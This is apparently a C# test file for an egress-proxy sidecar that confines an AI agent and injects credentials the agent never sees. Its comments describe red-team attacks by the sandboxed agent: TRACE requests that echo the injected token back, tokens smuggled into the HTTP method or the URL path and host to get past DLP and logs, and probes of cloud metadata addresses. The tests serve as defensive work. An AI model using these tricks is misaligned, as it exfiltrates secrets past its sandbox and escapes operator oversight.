using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using BotBottle.Policy;
using BotBottle.Sidecar.Egress;

namespace BotBottle.Tests;

/// <summary>
/// The sidecar's side of TLS and of name resolution, exercised for real: upstream certificates are validated (an
/// untrusted issuer or a certificate for another name is refused before a byte of the request — or the credential —
/// is sent), names go through the system resolver when no override is set, credentials never travel over plain HTTP,
/// the agent's SNI must name the CONNECT host, and every cloud metadata address is refused.
/// </summary>
public class UpstreamTlsTests
{
    private static readonly IReadOnlyDictionary<string, IPAddress[]> NoOverrides = new Dictionary<string, IPAddress[]>();

    /// <summary>A route for <c>localhost</c> (resolved by the system resolver) that injects the test credential.</summary>
    private static EgressPolicy LocalhostWithAuth() => new(
        [new EgressRoute { Host = "localhost", AllowPrivate = true, Auth = new RouteAuth(AuthScheme.Bearer, "UPSTREAM_TOKEN") }], EgressLogLevel.All);

    private static string Localhost(ProxyHarness h, string path) => $"https://localhost:{h.Upstream.HttpsPort}{path}";

    [Fact]
    public async Task A_trusted_upstream_reached_through_the_system_resolver_gets_the_request_and_the_credential()
    {
        // Control for the two refusals below: same route, same upstream, real resolution, its CA trusted.
        await using var h = await ProxyHarness.StartAsync(LocalhostWithAuth(), configure: o => o with { ResolveOverrides = NoOverrides });
        using var client = h.CreateClient();
        var r = await client.GetAsync(Localhost(h, "/trusted"));
        Assert.Equal(HttpStatusCode.OK, r.StatusCode);
        Assert.Equal("Bearer " + ProxyHarness.Secret, h.Upstream.Last("/trusted").Headers["Authorization"]);
    }

    [Fact]
    public async Task An_upstream_signed_by_an_untrusted_ca_is_refused_and_never_receives_the_credential()
    {
        // The sidecar trusts the system store only (no extra CA): the test upstream's CA is unknown to it.
        await using var h = await ProxyHarness.StartAsync(LocalhostWithAuth(), configure: o => o with { ResolveOverrides = NoOverrides, UpstreamCaFiles = [] });
        using var client = h.CreateClient();
        var r = await client.GetAsync(Localhost(h, "/untrusted"));
        Assert.Equal(HttpStatusCode.Forbidden, r.StatusCode);
        Assert.Equal("UpstreamNotTrusted", r.Headers.GetValues(Responses.ReasonHeader).Single());
        Assert.Contains("not trusted", await r.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(h.Upstream.Received);
    }

    [Fact]
    public async Task An_upstream_whose_certificate_names_another_host_is_refused_and_never_receives_the_credential()
    {
        // The CA is trusted, but the certificate is for someone-else.test, not localhost.
        await using var h = await ProxyHarness.StartAsync(LocalhostWithAuth(), configure: o => o with { ResolveOverrides = NoOverrides }, upstreamCertificateName: "someone-else.test");
        using var client = h.CreateClient();
        var r = await client.GetAsync(Localhost(h, "/wrong-name"));
        Assert.Equal(HttpStatusCode.Forbidden, r.StatusCode);
        Assert.Equal("UpstreamNotTrusted", r.Headers.GetValues(Responses.ReasonHeader).Single());
        Assert.Empty(h.Upstream.Received);
    }

    [Fact]
    public async Task A_name_that_does_not_resolve_is_a_502_with_nothing_sent()
    {
        // RFC 6761 §6.4: .invalid never resolves; the system resolver says so.
        await using var h = await ProxyHarness.StartAsync(new EgressPolicy([new EgressRoute { Host = "nowhere.invalid", AllowPrivate = true }]), configure: o => o with { ResolveOverrides = NoOverrides });
        using var client = h.CreateClient();
        var r = await client.GetAsync($"https://nowhere.invalid:{h.Upstream.HttpsPort}/x");
        Assert.Equal(HttpStatusCode.BadGateway, r.StatusCode);
        Assert.Contains("does not resolve", await r.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(h.Upstream.Received);
    }

    [Fact]
    public async Task A_route_with_a_credential_refuses_plain_http_and_sends_nothing()
    {
        var route = ProxyHarness.Route() with { Auth = new RouteAuth(AuthScheme.Bearer, "UPSTREAM_TOKEN") };
        await using var h = await ProxyHarness.StartAsync(new EgressPolicy([route], EgressLogLevel.All));
        var plain = await h.CurlAsync("-i", h.Http("/in-clear"));
        Assert.True(plain.ExitCode == 0, plain.StandardError);
        Assert.StartsWith("HTTP/1.1 403", plain.StandardOutput, StringComparison.Ordinal);
        Assert.Contains($"{Responses.ReasonHeader}: CredentialNeedsTls", plain.StandardOutput, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(ProxyHarness.Secret, plain.StandardOutput, StringComparison.Ordinal);
        Assert.Empty(h.Upstream.Received);

        // Control: the same route over TLS carries the credential.
        var tls = await h.CurlAsync("-i", h.Https("/over-tls"));
        Assert.True(tls.ExitCode == 0, tls.StandardError);
        Assert.StartsWith("HTTP/1.1 200", tls.StandardOutput, StringComparison.Ordinal);
        Assert.Equal("Bearer " + ProxyHarness.Secret, h.Upstream.Last("/over-tls").Headers["Authorization"]);
    }

    [Fact]
    public async Task A_trace_on_a_route_with_a_credential_is_refused_so_the_upstream_cannot_echo_the_credential_back()
    {
        // The attack (red team 8): TRACE asks the server to send the request back as it received it (RFC 9110 §9.3.8),
        // and servers that enable it (Apache's TraceEnable is on by default; IIS answers TRACK alike) echo every header
        // field — the injected Authorization included. The agent would then hold the credential the sidecar keeps from it.
        var route = ProxyHarness.Route() with { Auth = new RouteAuth(AuthScheme.Bearer, "UPSTREAM_TOKEN") };
        await using var h = await ProxyHarness.StartAsync(new EgressPolicy([route, ProxyHarness.Route("other.test")], EgressLogLevel.All));

        // Control: on a route without a credential a TRACE is forwarded and the upstream echoes what it received.
        var plain = await h.CurlAsync("-i", "--suppress-connect-headers", "-X", "TRACE", "-H", "X-Agent: mine", h.Https("/trace-control", "other.test"));
        Assert.True(plain.ExitCode == 0, plain.StandardError);
        Assert.StartsWith("HTTP/1.1 200", plain.StandardOutput, StringComparison.Ordinal);
        Assert.Contains("X-Agent: mine", plain.StandardOutput, StringComparison.Ordinal);

        foreach (var args in new[] { new[] { "-X", "TRACE" }, ["-X", "TRACK"], ["-X", "trace"], ["-X", "POST", "-H", "X-HTTP-Method-Override: TRACE", "--data", "x"] })
        {
            var r = await h.CurlAsync(["-i", "--suppress-connect-headers", .. args, h.Https("/trace-echo")]);
            Assert.True(r.ExitCode == 0, r.StandardError);
            Assert.DoesNotContain(ProxyHarness.Secret, r.StandardOutput, StringComparison.Ordinal);
            Assert.StartsWith("HTTP/1.1 403", r.StandardOutput, StringComparison.Ordinal);
            Assert.Contains($"{Responses.ReasonHeader}: TraceWithCredential", r.StandardOutput, StringComparison.OrdinalIgnoreCase);
            Assert.Contains("echo", r.StandardOutput, StringComparison.Ordinal);
        }

        Assert.DoesNotContain(h.Upstream.Received, r => r.Path == "/trace-echo");
    }

    [Fact]
    public async Task A_method_of_the_agents_making_is_refused_and_neither_reaches_the_upstream_nor_the_log()
    {
        // The attack (red team 11, from inside a real bottle): curl -X "$TOKEN" put the token in the request line the
        // upstream reads, which DLP does not scan, and the sidecar's log recorded it in clear. A route without method
        // rules forwarded any token as a method.
        const string token = "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";
        var output = new StringWriter();
        var routes = new EgressPolicy([ProxyHarness.Route(), ProxyHarness.Route("other.test") with { Matches = [new RouteMatch { Methods = ["PURGE"] }] }], EgressLogLevel.All);
        await using (var h = await ProxyHarness.StartAsync(routes, SidecarInspector.Create(new Dictionary<string, string>()), log: new EgressLog(output)))
        {
            // Controls: a registered method that is not one of the common ones passes, and so does a custom one a route names.
            var propfind = await h.CurlAsync("-i", "--suppress-connect-headers", "-X", "PROPFIND", h.Https("/dav-control"));
            Assert.StartsWith("HTTP/1.1 200", propfind.StandardOutput, StringComparison.Ordinal);
            var purge = await h.CurlAsync("-i", "--suppress-connect-headers", "-X", "PURGE", h.Https("/purge-control", "other.test"));
            Assert.StartsWith("HTTP/1.1 200", purge.StandardOutput, StringComparison.Ordinal);

            foreach (var args in new[] { new[] { "-X", token }, ["-X", "PURGE"], ["-X", "POST", "-H", "X-HTTP-Method-Override: " + token, "--data", "x"] })
            {
                var r = await h.CurlAsync(["-i", "--suppress-connect-headers", .. args, h.Https("/method-attack")]);
                Assert.True(r.ExitCode == 0, r.StandardError);
                Assert.StartsWith("HTTP/1.1 403", r.StandardOutput, StringComparison.Ordinal);
                Assert.Contains($"{Responses.ReasonHeader}: UnregisteredMethod", r.StandardOutput, StringComparison.OrdinalIgnoreCase);
            }

            // Over plain http (absolute-form through the proxy) too.
            var plain = await h.CurlAsync("-i", "-X", token, h.Http("/method-attack-http"));
            Assert.StartsWith("HTTP/1.1 403", plain.StandardOutput, StringComparison.Ordinal);

            Assert.DoesNotContain(h.Upstream.Received, r => r.Path.StartsWith("/method-attack", StringComparison.Ordinal));
            Assert.Contains(h.Upstream.Received, r => r.Path == "/dav-control");
        }

        var log = output.ToString();
        Assert.Contains("UnregisteredMethod", log, StringComparison.Ordinal);
        Assert.Contains("[unregistered, 40 chars]", log, StringComparison.Ordinal);
        Assert.DoesNotContain(token, log, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_refused_request_leaves_a_secret_in_its_path_or_host_out_of_the_log()
    {
        // The attack (red team 11, left open then): curl https://unlisted.example/<token> is refused, nothing leaves the
        // bottle, but the refusal's record carried the path (and the NoMatch message quoting it) in clear to the
        // operator's egress log, which promises secrets redacted.
        const string token = "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";
        const string known = "k3y5ecret4f9b2c7d1e8a";
        var output = new StringWriter();
        var narrow = ProxyHarness.Route() with { Matches = [new RouteMatch { Paths = [new ValuePattern(PatternKind.Prefix, "/api/")], Methods = ["GET"] }] };
        var inspector = SidecarInspector.Create(new Dictionary<string, string> { ["DEPLOY_KEY"] = known });
        await using (var h = await ProxyHarness.StartAsync(new EgressPolicy([narrow], EgressLogLevel.All), inspector, log: new EgressLog(output)))
        {
            foreach (var url in new[]
            {
                h.Https("/exfil/" + token, "other.test"), h.Http("/exfil/" + token, "other.test"), // NoRoute
                h.Https("/elsewhere/" + token), h.Http("/elsewhere/" + token), // NoMatch: the message quotes the path
                h.Https("/", known + ".other.test"), h.Http("/", known + ".other.test"), // the known secret as a host label
            })
            {
                var r = await h.CurlAsync("-i", "--suppress-connect-headers", url);
                Assert.StartsWith("HTTP/1.1 403", r.StandardOutput, StringComparison.Ordinal);
            }

            // Control: a refusal without a secret keeps its host and path.
            var control = await h.CurlAsync("-i", "--suppress-connect-headers", h.Http("/plain-refusal", "other.test"));
            Assert.StartsWith("HTTP/1.1 403", control.StandardOutput, StringComparison.Ordinal);
            Assert.Empty(h.Upstream.Received);
        }

        var log = output.ToString();
        Assert.DoesNotContain(token, log, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(known, log, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("github-pat-classic", log, StringComparison.Ordinal); // the operator sees what the agent tried to send
        Assert.Contains("\"host\":\"[redacted]\"", log, StringComparison.Ordinal);
        Assert.Contains("\"path\":\"/[redacted]\"", log, StringComparison.Ordinal);
        Assert.Contains("/plain-refusal", log, StringComparison.Ordinal);
        Assert.Contains("other.test", log, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_agents_sni_must_name_the_connect_host()
    {
        // Both hosts are allowed and reach the same upstream; only the SNI/CONNECT pairing differs.
        await using var h = await ProxyHarness.StartAsync(new EgressPolicy([ProxyHarness.Route(), ProxyHarness.Route("other.test")]));
        var authority = $"upstream.test:{h.Upstream.HttpsPort}";

        // Control: SNI equal to the CONNECT host gets a certificate and a response.
        var ok = await TunnelAsync(h, authority, sni: "upstream.test", "/sni-ok");
        Assert.StartsWith("HTTP/1.1 200", ok, StringComparison.Ordinal);

        var refused = await Record.ExceptionAsync(() => TunnelAsync(h, authority, sni: "other.test", "/sni-mismatch"));
        Assert.True(refused is AuthenticationException or IOException, $"the handshake with a foreign SNI should fail, got: {refused}");
        Assert.DoesNotContain(h.Upstream.Received, r => r.Path == "/sni-mismatch");
        Assert.Single(h.Upstream.Received, r => r.Path == "/sni-ok");
    }

    /// <summary>CONNECT to <paramref name="authority"/>, then TLS with <paramref name="sni"/> trusting only the bottle CA (any name), then one GET.</summary>
    private static async Task<string> TunnelAsync(ProxyHarness h, string authority, string sni, string path)
    {
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(h.Endpoint);
        var network = tcp.GetStream();
        await network.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n"));
        var head = new StringBuilder();
        var one = new byte[1];
        while (!head.ToString().EndsWith("\r\n\r\n", StringComparison.Ordinal) && await network.ReadAsync(one) == 1)
        {
            head.Append((char)one[0]);
        }

        Assert.StartsWith("HTTP/1.1 200", head.ToString(), StringComparison.Ordinal);
        var bottleCa = X509Certificate2.CreateFromPem(File.ReadAllText(h.BottleCaPath));
        // The agent controls its client and does not care which name the certificate carries: any leaf from the
        // bottle CA will do. Only the proxy's SNI check can stop the handshake.
        await using var ssl = new SslStream(network, leaveInnerStreamOpen: false, (_, cert, _, _) =>
        {
            if (cert is null)
            {
                return false;
            }

            using var chain = new X509Chain();
            chain.ChainPolicy.TrustMode = X509ChainTrustMode.CustomRootTrust;
            chain.ChainPolicy.CustomTrustStore.Add(bottleCa);
            chain.ChainPolicy.RevocationMode = X509RevocationMode.NoCheck;
            return chain.Build(new X509Certificate2(cert));
        });
        await ssl.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = sni, EnabledSslProtocols = SslProtocols.None });
        await ssl.WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n"));
        using var reader = new StreamReader(ssl, Encoding.ASCII);
        return await reader.ReadToEndAsync();
    }

    /// <summary>
    /// Documented instance-metadata endpoints: AWS, GCP, Azure and OCI 169.254.169.254; AWS over IPv6 fd00:ec2::254
    /// (AWS EC2 user guide, "Access instance metadata"); Alibaba Cloud 100.100.100.200 (ECS "Instance metadata");
    /// Oracle Cloud's legacy 192.0.0.192 (OCI "Getting instance metadata"); OpenStack over IPv6 fe80::a9fe:a9fe
    /// (Neutron metadata service).
    /// </summary>
    [Theory]
    [InlineData("169.254.169.254")]
    [InlineData("fd00:ec2::254")]
    [InlineData("100.100.100.200")]
    [InlineData("192.0.0.192")]
    [InlineData("fe80::a9fe:a9fe")]
    public async Task Every_cloud_metadata_address_is_refused_even_on_a_route_that_allows_private_addresses(string address)
    {
        await using var h = await ProxyHarness.StartAsync(new EgressPolicy([ProxyHarness.Route("meta.test"), ProxyHarness.Route("control.test")]), configure: o => o with
        {
            ResolveOverrides = new Dictionary<string, IPAddress[]> { ["meta.test"] = [IPAddress.Parse(address)], ["control.test"] = [IPAddress.Loopback] },
        });
        using var client = h.CreateClient();
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync(h.Https("/control", "control.test"))).StatusCode); // the same kind of route reaches the upstream

        var r = await client.GetAsync(h.Https("/latest/meta-data/", "meta.test"));
        Assert.Equal(HttpStatusCode.Forbidden, r.StatusCode);
        Assert.Equal("ForbiddenAddress", r.Headers.GetValues(Responses.ReasonHeader).Single());
        Assert.Contains("metadata", await r.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(h.Upstream.Received, x => x.Path.StartsWith("/latest", StringComparison.Ordinal));
    }
}
